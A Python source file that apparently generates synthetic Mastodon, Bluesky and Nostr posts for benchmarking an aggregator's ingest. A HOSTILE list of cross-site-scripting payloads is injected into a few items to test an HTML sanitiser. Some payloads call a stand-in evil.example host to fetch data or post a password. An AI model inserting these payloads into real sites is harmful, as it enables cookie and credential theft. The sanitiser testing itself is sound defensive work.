"""Network-shaped items, as the connectors hand them to ingest: who posts on each network, what
they write (text, Mastodon and Bluesky markup, hostile markup now and then), with media, cards,
quotes, reposts, replies and counts. No database."""

from __future__ import annotations

import hashlib
import html
import random
from collections.abc import Sequence
from dataclasses import dataclass, field
from datetime import datetime, timedelta
from typing import Any

NETWORKS = ("mastodon", "bluesky", "nostr")

_WORD_LIST = (
    "the of and to in is that it for on with as was at by this be from or are an have not "
    "but they his her she he we you all were when one there their what so up out if about who "
    "get which go me just know time people year good some could them see other than then now "
    "look only come its over think also back after use two how our work first well way even new "
    "want because any these give day most us release update server instance federation timeline "
    "post thread reply boost coffee morning weather rain sunshine garden cat dog photo music "
    "concert book reading writing code python rust django sqlite database deploy bug fix feature "
    "open source community moderation policy network protocol relay feed column deck hashtag "
    "mention link article news science climate election city train bike walk lunch dinner recipe "
    "bread cheese tea weekend holiday travel museum art painting game match team score goal "
    "conference talk slides video stream podcast episode interview question answer today "
    "tomorrow yesterday really very quite maybe perhaps finally again still already soon"
)
WORDS = tuple(_WORD_LIST.split())
INTL = ("café", "naïve", "Zürich", "São Paulo", "façade", "smörgåsbord", "東京", "こんにちは",
        "мир", "привет", "Ελλάδα", "שלום", "مرحبا", "한국어", "crème brûlée", "Ærø")
EMOJI = ("🎉", "🚀", "☕", "🐘", "🦋", "💜", "😂", "🙏", "🔥", "👀", "🌧️", "🐈", "📷", "🧵")
TAGS = ("python", "django", "fediverse", "photography", "caturday", "rust", "sqlite",
        "climate", "music", "books", "opensource", "bluesky", "nostr", "art", "news",
        "gardening", "running", "coffee", "linux", "privacy")
SITES = ("news.example.com", "blog.example.org", "www.example.net", "docs.example.dev",
         "video.example.tv", "papers.example.edu")
# Markup a hostile or broken server might send; nh3 must leave nothing of it that runs.
HOSTILE = (
    '<script>alert(document.cookie)</script>',
    '<img src="x" onerror="alert(1)">',
    '<a href="javascript:alert(1)">click me</a>',
    '<a href="JaVaScRiPt:fetch(\'//evil.example\')">win</a>',
    '<p onclick="steal()" style="position:fixed;inset:0;z-index:9999">overlay</p>',
    '<svg onload="alert(1)"><script>alert(2)</script></svg>',
    '<iframe src="https://evil.example/frame"></iframe>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data link</a>',
    '<style>*{display:none!important}</style>',
    '<form action="https://evil.example/steal"><input name="password"></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>',
    '<object data="https://evil.example/x.swf"></object><embed src="x.swf">',
    '<a href="vbscript:msgbox(1)" onmouseover="alert(1)">hover</a>',
    '<div style="background:url(javascript:alert(1))">css</div>',
    '<!-- <script>alert(1)</script> --><base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
)
CWS = ("politics", "food", "eye contact", "spoilers", "mental health", "long post", "US news",
       "lewd (joke)", "alcohol", "medical")
ALTS = ("A cat sleeping on a keyboard.", "Screenshot of a terminal with a stack trace.",
        "A sunset over the sea, orange and purple clouds.", "Chart: requests per second, "
        "rising steeply after the release.", "Two people at a conference table, laughing.",
        "A bowl of ramen with an egg.", "")


@dataclass
class Author:
    handle: str
    name: str
    avatar: str
    url: str
    did: str = ""


@dataclass
class Account:
    """One connection's home timeline, as the bench plays it back."""

    index: int
    network: str
    host: str
    pk: int = 0
    feed: Any = None
    follows: list[Author] = field(default_factory=list)
    total: int = 0
    made: int = 0
    last_batch: list[Any] = field(default_factory=list)


class Generator:
    """Network-shaped items, as the connectors hand them to ingest."""

    def __init__(self, rng: random.Random, start: datetime, days: float) -> None:
        self.rng = rng
        self.start = start
        self.span = timedelta(days=days)
        self.authors = {net: [self._author(net, n) for n in range(3000)] for net in NETWORKS}
        self.seq = 0

    # people

    def _author(self, network: str, n: int) -> Author:
        rng = self.rng
        user = f"{rng.choice(WORDS)}{rng.choice(WORDS)}{n}"
        name = user.title()
        if rng.random() < 0.15:
            name = f"{name} {rng.choice(EMOJI)}"
        elif rng.random() < 0.1:
            name = f"{rng.choice(INTL)} {name}"
        if network == "mastodon":
            host = f"mastodon{n % 40}.example"
            return Author(f"@{user}@{host}", name,
                          f"https://files.{host}/accounts/avatars/{n:06d}/original/a.png",
                          f"https://{host}/@{user}")
        if network == "bluesky":
            did = f"did:plc:{hashlib.sha1(user.encode()).hexdigest()[:24]}"
            handle = f"{user}.bsky.example"
            return Author(f"@{handle}", name,
                          f"https://cdn.bsky.example/img/avatar/plain/{did}/bafkrei{n:08d}@jpeg",
                          f"https://bsky.example/profile/{handle}", did=did)
        pubkey = hashlib.sha256(user.encode()).hexdigest()
        npub = "npub1" + pubkey[:58]
        return Author(npub, name, f"https://nostr.build.example/i/{pubkey[:16]}.jpg",
                      f"https://njump.example/{npub}", did=pubkey)

    # text

    def _length(self) -> int:
        roll = self.rng.random()
        if roll < 0.5:
            return self.rng.randint(20, 140)
        if roll < 0.85:
            return self.rng.randint(140, 300)
        return self.rng.randint(300, 500)

    def _tokens(self, network: str) -> list[tuple[str, str]]:
        """(kind, value) tokens adding up to 20-500 characters: words, mentions, hashtags,
        links, emoji, paragraph breaks."""
        rng = self.rng
        target = self._length()
        size = 0
        links = 0
        tokens: list[tuple[str, str]] = []
        while size < target:
            roll = rng.random()
            if roll < 0.035 and links < 2:
                links += 1
                site = rng.choice(SITES)
                slug = "-".join(rng.choice(WORDS) for _ in range(rng.randint(2, 6)))
                value = f"https://{site}/{rng.randint(2019, 2026)}/{slug}"
                if rng.random() < 0.3:
                    value += f"?utm_source=fedi&id={rng.randint(1, 10**6)}"
                tokens.append(("link", value))
            elif roll < 0.075:
                tokens.append(("mention", rng.choice(self.authors[network]).handle))
            elif roll < 0.11:
                tokens.append(("tag", rng.choice(TAGS)))
            elif roll < 0.125:
                tokens.append(("word", rng.choice(EMOJI)))
            elif roll < 0.14:
                tokens.append(("word", rng.choice(INTL)))
            elif roll < 0.15 and size > 60:
                tokens.append(("break", "\n\n"))
            else:
                tokens.append(("word", rng.choice(WORDS)))
            size += len(tokens[-1][1]) + 1
        return tokens

    @staticmethod
    def _text(tokens: Sequence[tuple[str, str]]) -> str:
        out: list[str] = []
        for kind, value in tokens:
            if kind == "break":
                out.append("\n\n")
                continue
            if out and not out[-1].endswith("\n"):
                out.append(" ")
            out.append(f"#{value}" if kind == "tag" else value)
        return "".join(out).strip()

    def _mastodon_html(self, tokens: Sequence[tuple[str, str]], host: str) -> str:
        paragraphs: list[list[str]] = [[]]
        for kind, value in tokens:
            if kind == "break":
                paragraphs.append([])
            elif kind == "word":
                paragraphs[-1].append(html.escape(value))
            elif kind == "tag":
                paragraphs[-1].append(
                    f'<a href="https://{host}/tags/{value}" class="mention hashtag" '
                    f'rel="tag">#<span>{value}</span></a>')
            elif kind == "mention":
                user = value.lstrip("@").split("@")[0]
                paragraphs[-1].append(
                    f'<span class="h-card" translate="no"><a href="https://{host}/@{user}" '
                    f'class="u-url mention">@<span>{html.escape(user)}</span></a></span>')
            else:
                bare = value.split("://", 1)[1]
                paragraphs[-1].append(
                    f'<a href="{html.escape(value)}" target="_blank" rel="nofollow noopener '
                    f'noreferrer" translate="no"><span class="invisible">https://</span>'
                    f'<span class="ellipsis">{html.escape(bare[:30])}</span><span '
                    f'class="invisible">{html.escape(bare[30:])}</span></a>')
        return "".join(f"<p>{' '.join(p)}</p>" for p in paragraphs if p)

    @staticmethod
    def _bluesky_html(tokens: Sequence[tuple[str, str]]) -> str:
        out: list[str] = []
        for kind, value in tokens:
            if kind == "break":
                out.append("<br><br>")
                continue
            if out and not out[-1].endswith("<br>"):
                out.append(" ")
            if kind == "word":
                out.append(html.escape(value))
            elif kind == "tag":
                out.append(f'<a href="https://bsky.example/hashtag/{value}">#{value}</a>')
            elif kind == "mention":
                out.append(f'<a href="https://bsky.example/profile/{value.lstrip("@")}">'
                           f"{html.escape(value)}</a>")
            else:
                out.append(f'<a href="{html.escape(value)}">{html.escape(value)}</a>')
        return "".join(out).strip()

    # items

    def remote_id(self, account: Account, author: Author, when: datetime, repost: bool) -> str:
        self.seq += 1
        if account.network == "mastodon":
            # Snowflake-like: milliseconds << 16 | sequence, as Mastodon ids are.
            return str((int(when.timestamp() * 1000) << 16) | (self.seq & 0xFFFF))
        if account.network == "bluesky":
            tid = _tid(int(when.timestamp() * 1_000_000), self.seq)
            collection = "app.bsky.feed.repost" if repost else "app.bsky.feed.post"
            return f"at://{author.did}/{collection}/{tid}"
        return hashlib.sha256(f"{account.index}:{self.seq}".encode()).hexdigest()

    def item(self, account: Account, when: datetime) -> Any:
        from hubbub.networks.base import Item

        rng = self.rng
        network = account.network
        author = rng.choice(account.follows)
        extra: dict[str, Any] = {}
        kind = "post"
        repost = rng.random() < 0.15
        booster = author
        if repost:
            # A repost shows someone else's post, attributed to the follow who reposted it.
            kind = "repost"
            author = rng.choice(self.authors[network])
            extra["reposted_by"] = booster.handle
            extra["reposted_by_name"] = booster.name
        elif rng.random() < 0.2:
            kind = "reply"
            parent = rng.choice(self.authors[network])
            extra["in_reply_to"] = self.remote_id(account, parent, when, False)
            extra["in_reply_to_handle"] = parent.handle
        tokens = self._tokens(network)
        text = self._text(tokens)
        if network == "mastodon":
            markup = self._mastodon_html(tokens, account.host)
        elif network == "bluesky":
            markup = self._bluesky_html(tokens)
        else:
            markup = ""  # Nostr sends plain text: ingest makes the HTML
        url_author = author
        if rng.random() < 0.02:
            # Hostile content: markup for nh3 on networks that send HTML, and as text elsewhere
            # (where it must come out escaped). Sometimes in the URL fields too.
            payload = rng.choice(HOSTILE)
            if markup:
                markup = markup + payload if rng.random() < 0.5 else payload + markup
            text = f"{text} {payload}"
            if rng.random() < 0.3:
                url_author = Author(author.handle, author.name,
                                    "javascript:alert(1)", "data:text/html,<script>x</script>")
        remote_id = self.remote_id(account, author, when, repost)
        if repost:
            extra["original_id"] = self.remote_id(account, author, when, False)
        if network == "mastodon":
            extra["visibility"] = rng.choice(("public", "public", "public", "unlisted",
                                              "private"))
            if rng.random() < 0.06:
                extra["content_warning"] = rng.choice(CWS)
                extra["sensitive"] = True
            url = f"{author.url}/{remote_id}"
        elif network == "bluesky":
            extra["uri"] = remote_id
            extra["cid"] = "bafyrei" + hashlib.blake2b(remote_id.encode(),
                                                       digest_size=20).hexdigest()
            extra["langs"] = ["en"]
            url = f"{author.url}/post/{remote_id.rsplit('/', 1)[-1]}"
        else:
            extra["nostr_kind"] = 6 if repost else 1
            tags = [value for kind_, value in tokens if kind_ == "tag"]
            if tags:
                extra["hashtags"] = tags
            if rng.random() < 0.02:
                extra["content_warning"] = rng.choice(CWS)
            url = f"https://njump.example/nevent1{remote_id[:50]}"
        if rng.random() < 0.22:
            extra["media"] = self._media(network, remote_id)
            if rng.random() < 0.2:
                extra["sensitive"] = True
        elif network != "nostr" and rng.random() < 0.15:
            site = rng.choice(SITES)
            extra["card"] = {
                "url": f"https://{site}/{rng.choice(WORDS)}-{rng.randint(1, 99999)}",
                "title": " ".join(rng.choice(WORDS) for _ in range(rng.randint(3, 12))).title(),
                "description": " ".join(rng.choice(WORDS) for _ in range(rng.randint(0, 40))),
                "image": f"https://cdn.{site}/og/{rng.randint(1, 99999)}.jpg"
                if rng.random() < 0.7 else "",
            }
        if network != "nostr" and kind == "post" and rng.random() < 0.05:
            quoted = rng.choice(self.authors[network])
            kind = "quote"
            extra["quote"] = {
                "uri": self.remote_id(account, quoted, when, False),
                "url": f"{quoted.url}/{self.seq}",
                "author_handle": quoted.handle,
                "author_name": quoted.name,
                "text": self._text(self._tokens(network))[:300],
            } if rng.random() < 0.9 else {"uri": "", "unavailable": "deleted"}
        if network != "nostr":
            extra["counts"] = self._counts()
            if rng.random() < 0.03:
                extra["liked"] = True
            if rng.random() < 0.01:
                extra["reposted"] = True
        extra["author_url"] = url_author.url
        return Item(
            remote_id=remote_id,
            kind=kind,
            author_handle=author.handle,
            author_name=author.name,
            created_at=when,
            text=text,
            html=markup,
            url=url,
            author_avatar=url_author.avatar,
            extra=extra,
        )

    def _counts(self) -> dict[str, int]:
        rng = self.rng
        like = int(rng.paretovariate(1.2)) - 1
        return {"reply": like // 7, "repost": like // 4, "like": like, "quote": like // 40}

    def _media(self, network: str, remote_id: str) -> list[dict[str, str]]:
        rng = self.rng
        count = rng.choice((1, 1, 1, 1, 2, 2, 3, 4))
        key = hashlib.md5(remote_id.encode()).hexdigest()[:16]
        media = []
        for n in range(count):
            kind = "image" if rng.random() < 0.92 else rng.choice(("video", "gifv"))
            if network == "mastodon":
                base = f"https://files.mastodon.example/media_attachments/files/{key}/{n}"
                url, preview = f"{base}/original.png", f"{base}/small.png"
            elif network == "bluesky":
                base = f"https://cdn.bsky.example/img/feed_fullsize/plain/{key}{n}"
                url, preview = f"{base}@jpeg", f"{base}@jpeg".replace("fullsize", "thumbnail")
            else:
                url = preview = f"https://nostr.build.example/i/{key}{n}.jpg"
            media.append({"type": kind, "url": url, "preview_url": preview,
                          "description": rng.choice(ALTS)})
        return media

    def reread(self, item: Any) -> Any:
        """The same item read again by an overlapping poll; half the time its counts moved."""
        from dataclasses import replace

        if self.rng.random() < 0.5 or "counts" not in item.extra:
            return item
        counts = dict(item.extra["counts"])
        counts["like"] += self.rng.randint(1, 5)
        return replace(item, extra={**item.extra, "counts": counts})


_B32 = "234567abcdefghijklmnopqrstuvwxyz"


def _tid(micros: int, seq: int) -> str:
    value = (micros << 10) | (seq & 0x3FF)
    chars = []
    for _ in range(13):
        chars.append(_B32[value & 31])
        value >>= 5
    return "".join(reversed(chars))
